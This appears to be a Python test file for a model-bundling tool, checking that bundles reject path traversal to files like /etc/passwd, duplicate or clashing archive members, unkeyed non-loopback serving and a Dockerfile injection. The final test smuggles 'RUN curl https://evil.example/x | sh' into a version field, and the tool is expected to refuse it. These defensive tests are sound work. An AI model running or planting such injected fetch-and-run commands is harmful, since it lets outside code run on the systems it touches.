"""A bundle can only name its own files, an archive can only hold one tree, and the deploy files never put an unkeyed
server beyond loopback: each checked on a real bundle (write_bundle), a real archive or the generated text run."""

from __future__ import annotations

import dataclasses
import importlib.metadata
import io
import json
import os
import plistlib
import stat
import subprocess
import tarfile
from pathlib import Path

import pytest
from cli_runner import run_edgepack
from test_bundle_parts import context_for, file_member, make_tar
from test_bundle_swap import NAME, tiny_request

import edgepack.bundle.archive as archive_module
from edgepack.bundle.deploy_files import deploy_files
from edgepack.bundle.verify import verify_bundle
from edgepack.bundle.write import write_bundle
from edgepack.core.errors import BundleInvalidError, EdgepackError
from edgepack.serve.session import defaults_for


@pytest.fixture()
def bundle(tmp_path: Path) -> Path:
    variant = tmp_path / "gguf-q8_0.gguf"
    variant.write_bytes(os.urandom(4096))
    request = dataclasses.replace(tiny_request(tmp_path / "dist", variant, "key"), chat_template="{{ messages }}")
    return write_bundle(request).directory


def rewrite_server(bundle: Path, **fields: str) -> None:
    manifest_path = bundle / "edgepack.json"
    manifest = json.loads(manifest_path.read_text())
    manifest["server"].update(fields)
    manifest_path.write_text(json.dumps(manifest))


@pytest.mark.parametrize("field, value", [
    ("chat_template", "/etc/passwd"),
    ("chat_template", "../outside.jinja"),
    ("chat_template", "model/../../outside.jinja"),
    ("chat_template", "a\\..\\..\\outside.jinja"),
    ("chat_template", "edgepack.json"),  # in the folder, but not a file the manifest lists
    ("chat_template", "model"),  # a folder, not a template file
    ("chat_template", "./chat_template.jinja"),  # not normalised
    ("model_path", "/etc/passwd"),
    ("model_path", "model/"),
])
def test_a_manifest_naming_a_path_outside_its_files_fails_verification(bundle: Path, field: str, value: str):
    verify_bundle(bundle)  # as written, it verifies
    rewrite_server(bundle, **{field: value})
    with pytest.raises(BundleInvalidError, match=f"server.{field}"):
        verify_bundle(bundle)


def test_edgepack_verify_exits_7_for_a_chat_template_outside_the_bundle(bundle: Path):
    rewrite_server(bundle, chat_template="/etc/passwd")
    done = run_edgepack(["verify", str(bundle)], timeout=120)
    assert done.returncode == 7, done.stderr
    assert "server.chat_template" in done.stderr and "ok:" not in done.stdout


def test_serving_a_bundle_reads_no_file_outside_it(bundle: Path, tmp_path: Path):
    secret = tmp_path / "secret.txt"
    secret.write_text("the private key")
    assert defaults_for(bundle).chat_template == "{{ messages }}"  # the bundle's own template is served
    rewrite_server(bundle, chat_template=str(secret))
    with pytest.raises(BundleInvalidError, match="server.chat_template"):
        defaults_for(bundle)


def rewrite_as_archive(bundle: Path, archive: Path, first: list[tuple[tarfile.TarInfo, bytes]]) -> Path:
    """The bundle as a .tar.gz whose first members are `first`, then every real one (as write_tar_gz adds them)."""
    with tarfile.open(archive, "w:gz") as tar:
        for info, data in first:
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
        tar.add(bundle, arcname=bundle.name)
    return archive


def test_an_archive_holding_a_member_twice_is_refused(bundle: Path, tmp_path: Path):
    """Extraction keeps the last copy: an evil model first and the real one last must not verify as the real one."""
    (model,) = (bundle / "model").iterdir()
    evil = tarfile.TarInfo(f"{NAME}/model/{model.name}")
    archive = rewrite_as_archive(bundle, tmp_path / "twice.tar.gz", [(evil, b"evil weights")])
    with pytest.raises(BundleInvalidError, match="appears twice"):
        verify_bundle(archive)
    done = run_edgepack(["verify", str(archive)], timeout=120)
    assert done.returncode == 7 and "appears twice" in done.stderr, done.stderr


def test_a_file_and_a_folder_of_one_name_are_refused_with_exit_7(tmp_path: Path):
    archive = make_tar(tmp_path / "clash.tar.gz", [file_member("bundle/zz"), file_member("bundle/zz/inner")])
    with pytest.raises(BundleInvalidError, match="'bundle/zz', which the archive also holds as a file"):
        verify_bundle(archive)
    done = run_edgepack(["verify", str(archive)], timeout=120)
    assert done.returncode == 7 and "Traceback" not in done.stderr, done.stderr


def test_member_headers_are_read_only_up_to_the_cap(tmp_path: Path, monkeypatch):
    """Millions of tiny headers must cost the cap's worth: reading stops at the first member past it."""
    archive = make_tar(tmp_path / "many.tar.gz", [file_member(f"bundle/f{index}") for index in range(500)])
    monkeypatch.setattr(archive_module, "MAX_MEMBERS", 10)
    headers_read = set()  # by offset: tarfile.open reads the first header, and iterating hands it out again
    read_next = tarfile.TarFile.next

    def recording_next(self):
        member = read_next(self)
        if member is not None:
            headers_read.add(member.offset)
        return member

    monkeypatch.setattr(tarfile.TarFile, "next", recording_next)
    with pytest.raises(BundleInvalidError, match="more than the 10 a bundle may hold"):
        verify_bundle(archive)
    assert len(headers_read) == 11


def test_the_container_needs_a_key_runs_as_a_user_and_pins_edgepack():
    dockerfile = deploy_files(context_for("raspberry-pi-5-8gb"))["deploy/Dockerfile"][0]
    instructions = [line for line in dockerfile.splitlines() if line and not line.startswith("#")]
    users = [line.split()[1] for line in instructions if line.startswith("USER ")]
    assert users and users[-1] not in ("root", "0")
    assert f"edgepack=={importlib.metadata.version('edgepack')}" in dockerfile
    env = " ".join(line for line in instructions if line.startswith("ENV "))
    assert "EDGEPACK_HOST=0.0.0.0" in env and "EDGEPACK_API_KEY_FILE=/run/secrets/edgepack_api_key" in env


@pytest.fixture()
def launcher(tmp_path: Path):
    """run.sh from a real deploy_files, with a stand-in `edgepack` on PATH that records its arguments (one a line)
    and the key file it was given; run(env, *args) -> (exit status, stderr, recorded arguments or None)."""
    folder = tmp_path / "bundle"
    folder.mkdir()
    (folder / "run.sh").write_text(deploy_files(context_for("raspberry-pi-5-8gb"))["run.sh"][0])
    (folder / "run.sh").chmod(0o755)
    tools = tmp_path / "bin"
    tools.mkdir()
    record = tmp_path / "arguments"
    fake = tools / "edgepack"
    fake.write_text(f'#!/bin/sh\nprintf "%s\\n" "$@" > {record}\n')
    fake.chmod(0o755)

    def run(env: dict[str, str], *args: str) -> tuple[int, str, list[str] | None]:
        record.unlink(missing_ok=True)
        done = subprocess.run([str(folder / "run.sh"), *args], capture_output=True, text=True, timeout=30,
                              env={"PATH": f"{tools}:/usr/bin:/bin", "TMPDIR": str(tmp_path), **env})
        return done.returncode, done.stderr, record.read_text().splitlines() if record.exists() else None

    return run


def test_run_sh_serves_on_loopback_without_a_key(launcher):
    status, _, arguments = launcher({})
    assert status == 0 and arguments[0] == "serve" and arguments[2:] == ["--host", "127.0.0.1", "--port", "8080"]


@pytest.mark.parametrize("env, args", [({"EDGEPACK_HOST": "0.0.0.0"}, ()), ({}, ("--host", "0.0.0.0")),
                                       ({}, ("--host=192.168.1.5",))])
def test_run_sh_refuses_to_serve_beyond_loopback_without_a_key(launcher, env, args):
    status, stderr, arguments = launcher(env, *args)
    assert (status, arguments) == (2, None)
    assert "without an API key" in stderr


def test_run_sh_gives_the_key_to_the_server_in_a_private_file_never_on_its_command_line(launcher, tmp_path: Path):
    status, _, arguments = launcher({"EDGEPACK_HOST": "0.0.0.0", "EDGEPACK_API_KEY": "s3cret-key"})
    assert status == 0 and "s3cret-key" not in arguments
    key_file = Path(arguments[arguments.index("--api-key-file") + 1])
    assert key_file.read_text().strip() == "s3cret-key"
    assert stat.S_IMODE(key_file.stat().st_mode) == 0o600
    given = tmp_path / "given-key"
    status, _, arguments = launcher({"EDGEPACK_HOST": "0.0.0.0", "EDGEPACK_API_KEY_FILE": str(given)})
    assert status == 0 and arguments[arguments.index("--api-key-file") + 1] == str(given)


def test_the_launchd_agent_logs_under_the_users_library_not_tmp(tmp_path: Path):
    files = deploy_files(context_for("host"))
    plist_text = files["deploy/com.edgepack.M-host.plist"][0]
    agent = plistlib.loads(plist_text.encode())
    assert "/tmp" not in plist_text and "StandardErrorPath" not in agent
    shell, flag, command = agent["ProgramArguments"]
    assert (shell, flag) == ("/bin/sh", "-c")
    # run as launchd would (run.sh is not installed here, so sh's complaint is what the log gets)
    subprocess.run([shell, flag, command], env={"HOME": str(tmp_path), "PATH": "/usr/bin:/bin"}, timeout=30)
    log = tmp_path / "Library" / "Logs" / "edgepack" / "M-host.log"
    assert "run.sh" in log.read_text()
    assert stat.S_IMODE(log.parent.stat().st_mode) == 0o700


def test_a_target_python_version_that_is_not_one_is_refused_not_written():
    ctx = context_for("raspberry-pi-5-8gb")
    evil = dataclasses.replace(ctx, target=dataclasses.replace(
        ctx.target, python_version="3.10-slim\nRUN curl https://evil.example/x | sh\n#"))
    with pytest.raises(EdgepackError, match="python_version '3.10-slim\\\\nRUN curl"):
        deploy_files(evil)
